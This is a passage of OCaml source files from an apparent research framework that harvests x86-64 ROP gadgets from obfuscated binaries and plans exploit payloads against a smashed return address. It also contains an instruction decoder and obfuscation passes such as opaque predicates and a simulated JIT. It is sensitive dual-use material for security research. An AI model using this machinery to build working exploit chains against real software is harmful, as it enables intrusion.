  | Store_rejected _ | Store_locked _ | Wal_torn _ -> exit_store
  | Frame_fault _ -> exit_proto

(* Same classification keyed by ledger label, for call sites that only
   kept the tally bucket (quarantine ledgers in stage stats). *)
let exit_code_of_label = function
  | "solver-timeout" | "budget" -> exit_timeout
  | "store" | "store-locked" | "wal-torn" -> exit_store
  | "frame-torn" | "frame-checksum" | "frame-disconnect" -> exit_proto
  | _ -> exit_fault

(* One-line JSON failure record for [--json-errors] (stderr, one per
   line).  OCaml's %S escaping is JSON-compatible for the ASCII
   diagnostics this module produces. *)
let json_record ~label ~detail =
  Printf.sprintf "{\"class\": %S, \"detail\": %S, \"exit_code\": %d}" label
    detail
    (exit_code_of_label label)

let to_json f = json_record ~label:(label f) ~detail:(to_string f)

(* ----- tallies ----- *)

(* A fault ledger: label -> count.  Stages carry one and quarantined
   items bump it; the pipeline merges ledgers into stage stats. *)
type tally = (string, int) Hashtbl.t

let tally_create () : tally = Hashtbl.create 8

let tally_add (t : tally) (f : t) =
  let k = label f in
  Hashtbl.replace t k (1 + (match Hashtbl.find_opt t k with Some n -> n | None -> 0))

let tally_count (t : tally) key =
  match Hashtbl.find_opt t key with Some n -> n | None -> 0

let tally_total (t : tally) = Hashtbl.fold (fun _ n acc -> acc + n) t 0

let tally_list (t : tally) =
  List.sort compare (Hashtbl.fold (fun k n acc -> (k, n) :: acc) t [])

(* Merge association-list ledgers (as stored in stats records). *)
let merge_counts (a : (string * int) list) (b : (string * int) list) =
  let t : tally = Hashtbl.create 8 in
  List.iter
    (fun (k, n) ->
      Hashtbl.replace t k (n + (match Hashtbl.find_opt t k with Some m -> m | None -> 0)))
    (a @ b);
  tally_list t
