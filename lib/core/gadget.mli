(** The gadget record (paper Table II) plus classification (Table I).

    A gadget is a symbolic summary of an instruction run ending in a
    controllable transfer, reduced to the fields the planner consumes:
    which registers it clobbers, which it sets from attacker-controlled
    stack slots, its pre-condition formulas, its post-condition terms,
    and how control leaves it. *)

open Gp_smt

(** Table I taxonomy. *)
type kind =
  | Return   (** ends in ret, unconditional, unmerged *)
  | UDJ      (** crossed a direct jump (merged) *)
  | UIJ      (** ends in an indirect jump/call *)
  | CDJ      (** conditional, ending in a direct transfer *)
  | CIJ      (** conditional, ending in an indirect transfer *)
  | Sys      (** ends at a syscall *)

val kind_name : kind -> string

(** How the gadget leaves the stack pointer. *)
type stack_effect =
  | Sdelta of int      (** rsp_final = rsp_entry + d: normal chain motion *)
  | Spivot of int      (** rsp_final = rbp_entry + d: frame pivot (leave) *)
  | Sunknown

type t = {
  id : int;                              (** unique per process *)
  addr : int64;                          (** location *)
  len : int;                             (** instruction count *)
  insns : Gp_x86.Insn.t list;
  kind : kind;
  jmp : Gp_symx.Exec.jump;
  clobbered : Gp_x86.Reg.t list;         (** clob-reg *)
  controlled : (Gp_x86.Reg.t * int) list;
      (** ctrl-reg: register <- payload slot at offset *)
  pre : Formula.t list;                  (** pre-cond *)
  post : (Gp_x86.Reg.t * Term.t) list;   (** post-cond: every register *)
  stack_delta : stack_effect;
  stack_writes : (int * Term.t) list;
  consumed : int list;                   (** payload slots this gadget reads *)
  ptr_writes : (Term.t * Term.t) list;   (** write-what-where effects *)
  mem_reads : (string * Term.t * bool) list;  (** var, address, reliable *)
  syscall_state : (Gp_x86.Reg.t * Term.t) list option;
      (** register state at the FIRST syscall executed, if any *)
  has_cond : bool;
  has_merge : bool;
  alias_hazard : bool;
}

val classify : Gp_symx.Exec.summary -> kind

val reset_ids : unit -> unit
(** Forget the global id sequence.  Differential tests reset before
    comparing pipelines so both runs draw the same ids (ids seed the
    layout pool's address salt, see [Plan]). *)

val fresh_id : unit -> int
(** Draw the next id from the global sequence.  The parallel harvest
    merge uses this to renumber worker-built gadgets on the main domain,
    reproducing exactly the sequence a sequential harvest assigns. *)

type id_source = unit -> int
(** Where a harvest draws gadget ids from (ids seed the layout pool's
    address salt, so the draw sequence is result-affecting). *)

val global_ids : id_source
(** The process-global sequence ([fresh_id]).  Only safe when harvests
    run one at a time. *)

val local_ids : unit -> id_source
(** A fresh private 0-based sequence.  Scheduler cells use one per cell
    so concurrent harvests never share a counter; it yields exactly the
    ids a sequential [reset_ids (); harvest] would. *)

val of_summary : ?id:int -> Gp_symx.Exec.summary -> t
(** Build the record from a symbolic summary.  Without [id], a fresh id
    is drawn from the global sequence (the sequential path); with it,
    the shared counter is left untouched (parallel workers pass a
    placeholder and the merge renumbers). *)

val post_of : t -> Gp_x86.Reg.t -> Term.t
(** Final value term of a register. *)

val content_key :
  config:Gp_symx.Exec.config ->
  decode:(int -> (Gp_x86.Insn.t * int) option) ->
  code_size:int ->
  pos:int ->
  string
(** Content address of a start offset (DESIGN.md §11): a purely
    syntactic walk mirroring [Exec.summarize_r]'s driver — same bounds
    and fork/merge counters, but exploring both arms of every
    conditional — serialized with the executor's config.  Summaries are
    a pure function of this key: equal keys (across positions, images,
    obfuscation configs) imply the executor would produce identical
    summaries up to the start address, which [Exec.rebase] restores.
    [decode] must answer like [Gp_x86.Decode.decode] on the image's
    code; [code_size] bounds the walk exactly as [Image.in_code] bounds
    execution. *)

val suffix_key :
  cap:int * int * int ->
  decode:(int -> (Gp_x86.Insn.t * int) option) ->
  code_size:int ->
  pos:int ->
  string
(** {!content_key} evaluated at a RESIDUAL budget (insns, forks,
    merges): the content address of a suffix summary
    ([Exec.summarize_cr]'s memo unit).  The residual is part of the key,
    and suffix entries live in their own store section, keeping them
    disjoint from whole-gadget entries. *)

type fp = { fp_eq : string; fp_pre : int }
(** Semantic fingerprint (DESIGN.md §17).  [fp_eq] serializes the
    effect structure plus lanes 0/1 (the deterministic all-zeros and
    all-ones trials) of every term {!Subsume.same_effects} probes, so
    unequal keys imply [same_effects = false] under either screening
    toggle.  [fp_pre] has bit k set iff every precondition holds under
    screen point k with the default pool's predicates; a lane in
    candidate-but-not-subsumer position refutes the entailment leg. *)

val fingerprint : t -> fp
(** Compute both components in one batched evaluation per term
    ({!Gp_smt.Fpeval}).  Pure function of the semantic fields
    ({!fp_key}); cached per content by [Incr.fp_of]. *)

val fp_key : t -> string
(** Content address of the fingerprint: a deterministic serialization
    of exactly the fields {!fingerprint} reads (jump, post, stack and
    pointer writes, syscall state, preconditions).  Computed from the
    finished record — no decode context, no residual budget. *)

val put_fp : Buffer.t -> fp -> unit
val get_fp : string -> int ref -> fp
(** Store codec for fingerprint values; [get_fp] raises
    [Gp_util.Store.Bin.Truncated] on out-of-range masks. *)

val to_string : t -> string
(** One-line rendering: address, kind, instructions. *)

val describe : t -> string
(** Multi-line rendering including pre/post conditions. *)
