(** Hierarchical deadline/fuel budgets (DESIGN.md "Failure model &
    budgets").

    {!Api.run} creates one root budget per analysis, carves per-stage
    sub-budgets off it with {!sub}, and threads them down through
    extract/subsume/plan/validate — replacing the hard-coded
    [time_budget]/[node_budget]/[fuel] constants that used to live in
    each stage.  A child deadline never exceeds its parent's, so a sweep
    has a single wall-clock bound.

    Deadlines ride a monotonic-clamped, pluggable clock; fuel is a
    per-node counter in caller-defined units.  {!check} is cheap enough
    for hot loops (clock read every 32nd poll). *)

type reason = Deadline | Fuel

exception Exhausted of string * reason
(** Raised by {!check}; carries the budget's label. *)

type t

val unlimited : ?label:string -> unit -> t
(** No deadline, no fuel.  The default everywhere, preserving seed
    behavior when no budget is passed. *)

val create : ?label:string -> ?seconds:float -> ?fuel:int -> unit -> t
(** Root budget: deadline [now + seconds] (none if omitted), fuel meter
    (unmetered if omitted). *)

val sub :
  t -> ?label:string -> ?fraction:float -> ?seconds:float -> ?fuel:int ->
  unit -> t
(** Child budget.  [seconds] gives an absolute slice, [fraction] a share
    of the parent's remaining time; either way the child's deadline is
    clamped to the parent's.  Fuel is fresh per child, not inherited. *)

val slice : t -> ?label:string -> ?fuel:int -> unit -> t
(** Per-worker slice for parallel chunks: shares the parent's deadline
    but owns a private fuel meter and poll state, so domains never
    mutate shared budget state.  The caller allots each chunk its fuel
    share up front and merges consumption back into the parent with
    {!spend} after the join. *)

val check : t -> unit
(** Raise {!Exhausted} if fuel has run out or the deadline has passed.
    Call at loop tops; the clock is only read every 32nd call. *)

val spend : ?amount:int -> t -> unit
(** Consume fuel.  Never raises — exhaustion surfaces at the next
    {!check}, so the unit of work that spent the last fuel completes. *)

val exhausted : t -> bool
(** True once the budget has run dry (sticky after a {!check} hit; also
    probes the clock directly). *)

val hit : t -> reason option
(** The sticky exhaustion reason recorded by {!check}, if any. *)

val remaining_seconds : t -> float
(** Seconds to the deadline ([infinity] if none). *)

val remaining_fuel : t -> int

val guard : t -> (unit -> 'a) -> ('a, reason) result
(** [guard t f] runs [f] under [t]: checks first, converts this budget's
    own {!Exhausted} into [Error].  Other budgets' exhaustion still
    propagates. *)

val emu_fuel : ?per_second:int -> ?cap:int -> t -> int
(** Convert remaining wall clock into emulator steps (roughly
    [per_second] retired steps per second), capped at [cap].  An
    unlimited budget yields [cap], preserving the seed's fuel
    constants. *)

(** {1 Clock}

    The wall clock is pluggable so the fault-injection harness can skew
    time deterministically.  A monotonic clamp keeps injected skews from
    running time backwards. *)

val now : unit -> float
val set_clock : (unit -> float) -> unit
val reset_clock : unit -> unit
