(** Memory layout contract between planner, payload builder, and
    validator.

    The exploit scenario fixes where the attacker's stack write lands
    (ASLR defeated/off, paper §III-A), so the payload base is a known
    constant — mutable here because the netperf scenario re-points it at
    the probed return-address cell.  POINTER pre-conditions are
    discharged by pinning free pointer variables INTO the payload, after
    which values read through them become attacker-chosen payload cells
    (the paper's "left unconstrained so that it is free to take on
    whatever value is necessary"). *)

val default_base : int64

val payload_base : unit -> int64
(** Address of payload word 0 (the smashed return-address cell). *)

val set_payload_base : int64 -> unit
(** Re-point the layout (e.g. at a probed address).  Gadget pools are
    layout-independent; only (re)planning consults the base. *)

val reset : unit -> unit
(** Back to {!default_base}. *)

val payload_size : int
(** Bytes the payload may occupy. *)

val payload_end : unit -> int64

val in_payload : int64 -> bool
val in_scratch : int64 -> bool

val pin_candidates : unit -> int64 list
(** Deep-payload addresses free pointers get pinned to, spaced so pinned
    frames don't collide with each other or the chain cells. *)

val readable : int64 -> bool
val writable : int64 -> bool

val pool : salt:int -> Gp_smt.Solver.pointer_pool
(** Solver pool; [salt] rotates the pin order so independent
    instantiations spread across candidates. *)

val pool_key : salt:int -> int64 * int
(** Structural memo key fully determining [pool ~salt]:
    [(payload_base, salt mod pin-count)].  Pass it as
    [Gp_smt.Solver.check ~pool_key] so instantiation verdicts can be
    memoized across the planner's repeated queries. *)
