(** x86-64 decoder for the encoder's subset.

    May be pointed at ANY byte offset — including the middle of an
    encoded instruction — and either produces an instruction or rejects
    the bytes.  This makes unaligned gadget harvesting possible: bytes of
    immediates and displacements re-decode as different instructions,
    exactly as on real hardware.  Unknown opcodes yield [None] rather
    than an exception so callers can slide a window over raw code. *)

val decode : ?limit:int -> Bytes.t -> int -> (Insn.t * int) option
(** [decode bytes pos] decodes one instruction starting at byte [pos],
    returning it with its encoded length, or [None] when the bytes are
    not in the subset.  [limit] caps readable bytes (default: the whole
    buffer); running past it rejects. *)

(** {1 Decode-once memo}

    Unaligned harvesting revisits every byte position many times (runs
    starting at [p] and [p+1] share their whole suffix — classic
    Galileo-style sharing).  A {!memo} decodes every position of a
    buffer once, eagerly, on the constructing domain; the array is
    immutable afterwards, so worker domains may consult it without
    locks.  The atomic lookup counter makes the saving observable:
    [memo_lookups m - memo_size m] decodes were not re-executed. *)

type memo

val memo : ?limit:int -> Bytes.t -> memo
(** Decode every position in [0, limit) (default: the whole buffer). *)

val decode_memo : memo -> int -> (Insn.t * int) option
(** Same answers as {!decode} on the memoized buffer, O(1). *)

val memo_size : memo -> int
(** Positions decoded at construction. *)

val memo_lookups : memo -> int
(** Lookups served so far (including out-of-bounds probes). *)

val decode_run :
  ?max_insns:int -> ?limit:int -> Bytes.t -> int -> (Insn.t * int * int) list option
(** Decode consecutive instructions up to and including the first
    terminator (see {!Insn.is_terminator}).  Returns
    [(insn, offset_from_start, length)] triples, or [None] if any byte
    fails to decode or no terminator appears within [max_insns]
    (default 64). *)
