(* x86-64 decoder for the encoder's subset.

   [decode] may be pointed at ANY byte offset — including the middle of an
   encoded instruction — and either produces an instruction or rejects the
   bytes.  This is what makes unaligned gadget harvesting possible: bytes
   of immediates and displacements re-decode as different instructions,
   exactly as on real hardware.  Unknown opcodes yield [None] rather than
   an exception so callers can slide a window over raw code. *)

type cursor = { bytes : Bytes.t; limit : int; mutable pos : int }

exception Reject

let u8 c =
  if c.pos >= c.limit then raise Reject;
  let v = Bytes.get_uint8 c.bytes c.pos in
  c.pos <- c.pos + 1;
  v

let i8 c =
  let v = u8 c in
  if v >= 0x80 then v - 0x100 else v

let u16 c =
  let lo = u8 c in
  let hi = u8 c in
  lo lor (hi lsl 8)

let i32 c =
  let b0 = u8 c in
  let b1 = u8 c in
  let b2 = u8 c in
  let b3 = u8 c in
  let v = b0 lor (b1 lsl 8) lor (b2 lsl 16) lor (b3 lsl 24) in
  if v land 0x80000000 <> 0 then v - (1 lsl 32) else v

let i64 c =
  let rec go acc k =
    if k = 8 then acc
    else
      let b = Int64.of_int (u8 c) in
      go (Int64.logor acc (Int64.shift_left b (8 * k))) (k + 1)
  in
  go 0L 0

type rm = RmReg of Reg.t | RmMem of Insn.mem

(* Decode ModRM (+SIB +disp).  Returns (reg field incl. REX.R, rm). *)
let modrm c ~rexr ~rexb =
  let m = u8 c in
  let md = m lsr 6 in
  let reg = ((m lsr 3) land 7) lor (rexr lsl 3) in
  let rm = m land 7 in
  if md = 3 then (reg, RmReg (Reg.of_number (rm lor (rexb lsl 3))))
  else begin
    let base =
      if rm = 4 then begin
        let sib = u8 c in
        let scale = sib lsr 6 in
        let idx = (sib lsr 3) land 7 in
        let b = sib land 7 in
        (* only "no index" SIB forms are in our subset *)
        if idx <> 4 || scale <> 0 then raise Reject;
        if md = 0 && b = 5 then raise Reject;
        Reg.of_number (b lor (rexb lsl 3))
      end
      else if md = 0 && rm = 5 then raise Reject (* RIP-relative *)
      else Reg.of_number (rm lor (rexb lsl 3))
    in
    let disp = match md with 0 -> 0 | 1 -> i8 c | _ -> i32 c in
    (reg, RmMem { Insn.base; disp })
  end

let rm_operand = function
  | RmReg r -> Insn.Reg r
  | RmMem m -> Insn.Mem m

let rm_reg_exn = function RmReg r -> r | RmMem _ -> raise Reject

let alu_mr c ~rexr ~rexb mk =
  let reg, rm = modrm c ~rexr ~rexb in
  mk (rm_operand rm) (Insn.Reg (Reg.of_number reg))

let alu_rm c ~rexr ~rexb mk =
  let reg, rm = modrm c ~rexr ~rexb in
  mk (Insn.Reg (Reg.of_number reg)) (rm_operand rm)

let decode_at c =
  let open Insn in
  let b0 = u8 c in
  (* REX prefix *)
  let rexw, rexr, rexb, op =
    if b0 >= 0x40 && b0 <= 0x4F then begin
      if b0 land 0x02 <> 0 then raise Reject (* REX.X never emitted *)
      else
        ((b0 lsr 3) land 1, (b0 lsr 2) land 1, b0 land 1, u8 c)
    end
    else (0, 0, 0, b0)
  in
  let need_w () = if rexw = 0 then raise Reject in
  match op with
  | _ when op >= 0x50 && op <= 0x57 ->
    Push (Reg.of_number ((op - 0x50) lor (rexb lsl 3)))
  | _ when op >= 0x58 && op <= 0x5F ->
    Pop (Reg.of_number ((op - 0x58) lor (rexb lsl 3)))
  | 0x68 -> PushImm (i32 c)
  | 0x89 -> need_w (); alu_mr c ~rexr ~rexb (fun d s -> Mov (d, s))
  | 0x8B -> need_w (); alu_rm c ~rexr ~rexb (fun d s -> Mov (d, s))
  | 0xC7 ->
    need_w ();
    let ext, rm = modrm c ~rexr ~rexb in
    if ext land 7 <> 0 then raise Reject;
    let imm = Int64.of_int (i32 c) in
    Mov (rm_operand rm, Imm imm)
  | _ when op >= 0xB8 && op <= 0xBF ->
    need_w ();
    Movabs (Reg.of_number ((op - 0xB8) lor (rexb lsl 3)), i64 c)
  | 0x8D ->
    need_w ();
    let reg, rm = modrm c ~rexr ~rexb in
    (match rm with
     | RmMem m -> Lea (Reg.of_number reg, m)
     | RmReg _ -> raise Reject)
  | 0x01 -> need_w (); alu_mr c ~rexr ~rexb (fun d s -> Add (d, s))
  | 0x03 -> need_w (); alu_rm c ~rexr ~rexb (fun d s -> Add (d, s))
  | 0x09 -> need_w (); alu_mr c ~rexr ~rexb (fun d s -> Or_ (d, s))
  | 0x0B -> need_w (); alu_rm c ~rexr ~rexb (fun d s -> Or_ (d, s))
  | 0x21 -> need_w (); alu_mr c ~rexr ~rexb (fun d s -> And_ (d, s))
  | 0x23 -> need_w (); alu_rm c ~rexr ~rexb (fun d s -> And_ (d, s))
  | 0x29 -> need_w (); alu_mr c ~rexr ~rexb (fun d s -> Sub (d, s))
  | 0x2B -> need_w (); alu_rm c ~rexr ~rexb (fun d s -> Sub (d, s))
  | 0x31 -> need_w (); alu_mr c ~rexr ~rexb (fun d s -> Xor (d, s))
  | 0x33 -> need_w (); alu_rm c ~rexr ~rexb (fun d s -> Xor (d, s))
  | 0x39 -> need_w (); alu_mr c ~rexr ~rexb (fun d s -> Cmp (d, s))
  | 0x3B -> need_w (); alu_rm c ~rexr ~rexb (fun d s -> Cmp (d, s))
  | 0x81 ->
    need_w ();
    let ext, rm = modrm c ~rexr ~rexb in
    let imm = Int64.of_int (i32 c) in
    let d = rm_operand rm in
    (match ext land 7 with
     | 0 -> Add (d, Imm imm)
     | 1 -> Or_ (d, Imm imm)
     | 4 -> And_ (d, Imm imm)
     | 5 -> Sub (d, Imm imm)
     | 6 -> Xor (d, Imm imm)
     | 7 -> Cmp (d, Imm imm)
     | _ -> raise Reject)
  | 0x85 ->
    need_w ();
    let reg, rm = modrm c ~rexr ~rexb in
    Test (rm_reg_exn rm, Reg.of_number reg)
  | 0x87 ->
    need_w ();
    let reg, rm = modrm c ~rexr ~rexb in
    Xchg (rm_reg_exn rm, Reg.of_number reg)
  | 0xC1 ->
    need_w ();
    let ext, rm = modrm c ~rexr ~rexb in
    let n = u8 c in
    let r = rm_reg_exn rm in
    (match ext land 7 with
     | 4 -> Shl (r, n)
     | 5 -> Shr (r, n)
     | 7 -> Sar (r, n)
     | _ -> raise Reject)
  | 0xFF ->
    let ext, rm = modrm c ~rexr ~rexb in
    (match ext land 7, rm with
     | 0, RmReg r -> need_w (); Inc r
     | 1, RmReg r -> need_w (); Dec r
     | 2, RmReg r -> CallReg r
     | 2, RmMem m -> CallMem m
     | 4, RmReg r -> JmpReg r
     | 4, RmMem m -> JmpMem m
     | _ -> raise Reject)
  | 0xF7 ->
    need_w ();
    let ext, rm = modrm c ~rexr ~rexb in
    let r = rm_reg_exn rm in
    (match ext land 7 with
     | 2 -> Not_ r
     | 3 -> Neg r
     | _ -> raise Reject)
  | 0x0F ->
    let op2 = u8 c in
    if op2 = 0x05 then Syscall
    else if op2 >= 0x80 && op2 <= 0x8F then
      Jcc (Insn.cond_of_number (op2 - 0x80), i32 c)
    else if op2 = 0xAF then begin
      need_w ();
      let reg, rm = modrm c ~rexr ~rexb in
      Imul (Reg.of_number reg, rm_reg_exn rm)
    end
    else raise Reject
  | 0xE9 -> Jmp (i32 c)
  | 0xEB -> Jmp (i8 c)
  | 0xE8 -> Call (i32 c)
  | _ when op >= 0x70 && op <= 0x7F -> Jcc (Insn.cond_of_number (op - 0x70), i8 c)
  | 0xC3 -> Ret
  | 0xC2 -> RetImm (u16 c)
  | 0xC9 -> Leave
  | 0x90 -> Nop
  | 0xCC -> Int3
  | 0xF4 -> Hlt
  | _ -> raise Reject

(* Decode one instruction at [pos]; returns the instruction and its length. *)
let decode ?limit bytes pos =
  let limit = match limit with Some l -> l | None -> Bytes.length bytes in
  if pos < 0 || pos >= limit then None
  else
    let c = { bytes; limit; pos } in
    match decode_at c with
    | insn -> Some (insn, c.pos - pos)
    | exception Reject -> None

(* ----- decode-once memo (Galileo-style suffix sharing) -----

   Unaligned harvesting decodes at every byte offset, and the runs
   starting at offsets p and p+1 overlap in all but their first
   instruction — so the same position is decoded many times over as
   scans, prefilters, content-key walks and symbolic execution slide
   across the image.  The memo decodes every position of an image ONCE,
   eagerly, on the constructing domain; the resulting array is immutable
   and therefore safe to read from any number of worker domains without
   locks.  [lookups] (atomic: workers bump it concurrently) minus the
   array length is the number of decodes the memo saved. *)

type memo = {
  insns : (Insn.t * int) option array;
  lookups : int Atomic.t;
}

let memo ?limit bytes =
  let limit = match limit with Some l -> l | None -> Bytes.length bytes in
  { insns = Array.init limit (fun pos -> decode ~limit bytes pos);
    lookups = Atomic.make 0 }

let decode_memo m pos =
  Atomic.incr m.lookups;
  if pos < 0 || pos >= Array.length m.insns then None else m.insns.(pos)

let memo_size m = Array.length m.insns
let memo_lookups m = Atomic.get m.lookups

(* Decode a straight-line run starting at [pos]: consecutive instructions
   up to and including the first terminator.  Returns [(insn, offset)]
   pairs (offset relative to [pos]) or None if any byte fails to decode or
   no terminator is reached within [max_insns]. *)
let decode_run ?(max_insns = 64) ?limit bytes pos =
  let rec go acc p n =
    if n > max_insns then None
    else
      match decode ?limit bytes p with
      | None -> None
      | Some (insn, len) ->
        let acc = (insn, p - pos, len) :: acc in
        if Insn.is_terminator insn then Some (List.rev acc)
        else go acc (p + len) (n + 1)
  in
  go [] pos 0
