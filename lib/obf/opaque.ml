(* Opaque predicates: conditions that always evaluate true but whose truth
   is not syntactically obvious (paper §II-A(2)).  Each reads "entropy"
   from a dedicated global so that a constant folder cannot collapse the
   branch.  All identities hold mod 2^64:

   - x*(x+1) is always even, so (x*(x+1)) & 1 == 0;
   - (x&1) * ((x+1)&1) == 0 for the same parity reason;
   - 7y^2 - 1 is never a square mod 8 (7y^2-1 mod 8 is in {3,6,7} while
     squares are in {0,1,4}), hence never equal to x^2 mod 2^64. *)

open Gp_ir

(* Fresh-name counter: domain-local so concurrent compiles on worker
   domains never tear an increment, and reset by [Obf.apply] so each
   compile's generated names depend only on (source, config), not on
   how many compiles ran earlier in the process. *)
let counter = Domain.DLS.new_key (fun () -> ref 0)
let reset_counter () = Domain.DLS.get counter := 0

let next_counter () =
  let r = Domain.DLS.get counter in
  let n = !r in
  incr r;
  n

(* One global "entropy" cell per predicate instance. *)
let fresh_opaque_global rng (prog : Ir.program) =
  let n = next_counter () in
  let name = Printf.sprintf "opq$%d" n in
  Ir.add_data prog name (Gp_util.Hex.int64_le (Gp_util.Rng.next_int64 rng));
  name

(* Returns instructions computing an always-TRUE (nonzero) value into the
   returned temp. *)
let always_true rng prog (f : Ir.func) : Ir.instr list * Ir.temp =
  let g = fresh_opaque_global rng prog in
  let x = Ir.fresh_temp f in
  let result = Ir.fresh_temp f in
  match Gp_util.Rng.int rng 3 with
  | 0 ->
    (* ((x * (x+1)) & 1) == 0 *)
    let x1 = Ir.fresh_temp f in
    let prod = Ir.fresh_temp f in
    let bit = Ir.fresh_temp f in
    ( [ Ir.Load (x, Ir.G g, 0);
        Ir.Bin (Ir.Add, x1, Ir.T x, Ir.I 1L);
        Ir.Bin (Ir.Mul, prod, Ir.T x, Ir.T x1);
        Ir.Bin (Ir.And, bit, Ir.T prod, Ir.I 1L);
        Ir.Cmp (Ir.Eq, result, Ir.T bit, Ir.I 0L) ],
      result )
  | 1 ->
    (* ((x&1) * ((x+1)&1)) == 0 *)
    let x1 = Ir.fresh_temp f in
    let p1 = Ir.fresh_temp f in
    let p2 = Ir.fresh_temp f in
    let prod = Ir.fresh_temp f in
    ( [ Ir.Load (x, Ir.G g, 0);
        Ir.Bin (Ir.And, p1, Ir.T x, Ir.I 1L);
        Ir.Bin (Ir.Add, x1, Ir.T x, Ir.I 1L);
        Ir.Bin (Ir.And, p2, Ir.T x1, Ir.I 1L);
        Ir.Bin (Ir.Mul, prod, Ir.T p1, Ir.T p2);
        Ir.Cmp (Ir.Eq, result, Ir.T prod, Ir.I 0L) ],
      result )
  | _ ->
    (* 7*y*y - 1 != x*x *)
    let g2 = fresh_opaque_global rng prog in
    let y = Ir.fresh_temp f in
    let yy = Ir.fresh_temp f in
    let t7 = Ir.fresh_temp f in
    let lhs = Ir.fresh_temp f in
    let xx = Ir.fresh_temp f in
    ( [ Ir.Load (x, Ir.G g, 0);
        Ir.Load (y, Ir.G g2, 0);
        Ir.Bin (Ir.Mul, yy, Ir.T y, Ir.T y);
        Ir.Bin (Ir.Mul, t7, Ir.T yy, Ir.I 7L);
        Ir.Bin (Ir.Sub, lhs, Ir.T t7, Ir.I 1L);
        Ir.Bin (Ir.Mul, xx, Ir.T x, Ir.T x);
        Ir.Cmp (Ir.Ne, result, Ir.T lhs, Ir.T xx) ],
      result )
