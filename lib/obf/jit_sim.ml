(* JIT dynamic, SIMULATED (paper §II-A(4); see DESIGN.md §2).

   Tigress's JitDynamic compiles a function's intermediate form to machine
   code at run time and jumps to it.  The statically-visible footprint —
   what this study measures — is (a) a template of machine-code bytes in
   the data section, (b) a copy loop moving them into writable/executable
   memory, and (c) an indirect call into the fresh code.  We emit all
   three and they genuinely execute in the emulator: the copied stub
   (movabs rax, <tag>; ret) runs from scratch memory via an indirect
   call.  Only the *work done* by the jitted code is a placeholder, which
   keeps the pass semantics-preserving. *)

open Gp_x86
open Gp_ir

(* Domain-local and reset per [Obf.apply]; see Opaque.reset_counter.
   The counter value lands in image bytes (the stub tag and the
   jit-area destination immediates), so without the reset a program's
   compiled bytes would depend on every compile that ran before it. *)
let counter = Domain.DLS.new_key (fun () -> ref 0)
let reset_counter () = Domain.DLS.get counter := 0

(* Scratch addresses must stay inside the emulator's scratch region but
   clear of the solver's pointer pool; see Emu.Machine. *)
let jit_area_base = 0x708000L
let jit_area_slot = 64

let instrument_func rng (prog : Ir.program) (f : Ir.func) =
  match f.Ir.f_blocks with
  | [] -> ()
  | old_entry :: _ ->
    let r = Domain.DLS.get counter in
    let n = !r in
    incr r;
    if n >= 200 then ()   (* don't run out of scratch space *)
    else begin
      let tag = Int64.logor 0x4a170000L (Int64.of_int n) in
      let template = Encode.insns [ Insn.Movabs (Reg.RAX, tag); Insn.Ret ] in
      let words = (Bytes.length template + 7) / 8 in
      let padded = Bytes.make (8 * words) '\x90' in
      Bytes.blit template 0 padded 0 (Bytes.length template);
      let tmpl_name = Printf.sprintf "jit$%d" n in
      Ir.add_data prog tmpl_name padded;
      let dest = Int64.add jit_area_base (Int64.of_int (n * jit_area_slot)) in
      (* move original entry body aside *)
      let l_moved = Ir.fresh_label f "jit_orig" in
      let moved =
        { Ir.b_label = l_moved;
          b_instrs = old_entry.Ir.b_instrs;
          b_term = old_entry.Ir.b_term }
      in
      ignore rng;
      let copy_instrs =
        List.concat
          (List.init words (fun k ->
               let src = Ir.fresh_temp f in
               [ Ir.Load (src, Ir.G tmpl_name, 8 * k);
                 Ir.Store (Ir.I (Int64.add dest (Int64.of_int (8 * k))), 0, Ir.T src) ]))
      in
      let r = Ir.fresh_temp f in
      old_entry.Ir.b_instrs <-
        copy_instrs @ [ Ir.CallPtr (Some r, Ir.I dest, []) ];
      old_entry.Ir.b_term <- Ir.Jmp l_moved;
      f.Ir.f_blocks <- f.Ir.f_blocks @ [ moved ]
    end

let run ?(prob = 1.0) rng (prog : Ir.program) =
  List.iter
    (fun f -> if Gp_util.Rng.flip rng prob then instrument_func rng prog f)
    prog.Ir.p_funcs;
  prog
