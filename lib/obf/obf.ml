(* Obfuscation driver: named passes, configurations, and the two presets
   mirroring the paper's tools.

   - [ollvm]   = Obfuscator-LLVM:  substitution + bogus CF + flattening.
   - [tigress] = Tigress: those three plus literal encoding,
                 virtualization, self-modification (sim), JIT (sim).

   The input program is cloned, so one IR can be compiled under many
   configurations. *)

type pass =
  | Substitution
  | Bogus_cf
  | Flatten
  | Encode_literals
  | Virtualize
  | Self_modify
  | Jit

let pass_name = function
  | Substitution -> "substitution"
  | Bogus_cf -> "bogus-cf"
  | Flatten -> "flatten"
  | Encode_literals -> "encode-literals"
  | Virtualize -> "virtualize"
  | Self_modify -> "self-modify"
  | Jit -> "jit"

let pass_of_name = function
  | "substitution" | "sub" -> Substitution
  | "bogus-cf" | "bcf" -> Bogus_cf
  | "flatten" | "fla" -> Flatten
  | "encode-literals" | "lit" -> Encode_literals
  | "virtualize" | "virt" -> Virtualize
  | "self-modify" | "sm" -> Self_modify
  | "jit" -> Jit
  | s -> invalid_arg ("unknown obfuscation pass: " ^ s)

let all_passes =
  [ Substitution; Bogus_cf; Flatten; Encode_literals; Virtualize; Self_modify; Jit ]

type config = {
  passes : pass list;
  seed : int;
  intensity : float;   (* 0..1: probability knob for probabilistic passes *)
}

let config ?(seed = 1) ?(intensity = 0.5) passes = { passes; seed; intensity }

(* Presets matching the paper's §III setup ("turn on all possible
   obfuscation options provided by these tools"). *)
let none = config []
let ollvm = config [ Substitution; Bogus_cf; Flatten ]
let tigress =
  config
    [ Encode_literals; Virtualize; Substitution; Bogus_cf; Flatten;
      Self_modify; Jit ]

(* One pass alone, for the per-method study (Fig. 5). *)
let single pass = config [ pass ]

let config_name cfg =
  match cfg.passes with
  | [] -> "original"
  | ps when ps = ollvm.passes -> "llvm-obf"
  | ps when ps = tigress.passes -> "tigress"
  | ps -> String.concat "+" (List.map pass_name ps)

let apply_pass rng intensity prog = function
  | Substitution -> Substitution.run ~prob:intensity rng prog
  | Bogus_cf -> Bogus_cf.run ~prob:(intensity *. 0.8) rng prog
  | Flatten -> Flatten.run rng prog
  | Encode_literals -> Encode_lit.run ~prob:intensity rng prog
  | Virtualize -> Virtualize.run rng prog
  | Self_modify -> Self_mod.run rng prog
  | Jit -> Jit_sim.run rng prog

let apply (cfg : config) (prog : Gp_ir.Ir.program) : Gp_ir.Ir.program =
  (* Fresh-name counters restart at 0 for every compile: generated
     globals, jit tags, and jit-area destinations must depend only on
     (source, config) so that concurrently scheduled cell compiles
